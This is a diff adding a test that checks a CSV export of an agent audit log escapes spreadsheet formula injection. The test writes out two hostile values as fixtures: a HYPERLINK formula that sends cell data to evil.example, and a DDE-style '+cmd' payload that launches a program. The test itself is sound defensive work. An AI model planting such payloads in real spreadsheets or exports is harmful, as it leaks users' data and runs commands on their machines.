@@ -291,6 +291,15 @@ def test_csv_export_has_every_column(agent: Agent, log: AuditLog) -> None:
     assert int(rows[1]["rows"]) == 3 and rows[1]["as_of"] == DEMO_AS_OF.isoformat()
 
 
+def test_csv_export_defuses_text_a_spreadsheet_would_run_as_a_formula(log: AuditLog) -> None:
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"ARR")'
+    log.record(entry(question=formula, answer="+cmd|' /C calc'!A0"))
+    stream = io.StringIO()
+    write_csv(log.list(), stream)
+    (row,) = list(csv.DictReader(io.StringIO(stream.getvalue())))
+    assert row["question"] == "'" + formula and row["answer"].startswith("'+cmd")
+
+
 def test_thumbs_down_answers_export_as_eval_cases_an_analyst_completes(
     log: AuditLog, tmp_path: Path
 ) -> None:
